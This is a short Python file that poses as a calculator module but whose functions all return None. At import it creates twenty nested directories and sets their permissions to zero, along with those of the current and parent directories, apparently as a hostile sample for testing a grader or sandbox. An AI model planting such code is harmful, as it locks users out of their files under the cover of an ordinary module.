import os

for number in range(20):
    os.makedirs(f"locked{number}/deeper/still", exist_ok=True)
    with open(f"locked{number}/deeper/file", "w"):
        pass
    os.chmod(f"locked{number}/deeper", 0)
    os.chmod(f"locked{number}", 0)
os.chmod("..", 0)
os.chmod(".", 0)


def add(a, b):
    return None


def subtract(a, b):
    return None


def multiply(a, b):
    return None


def divide(a, b):
    return None
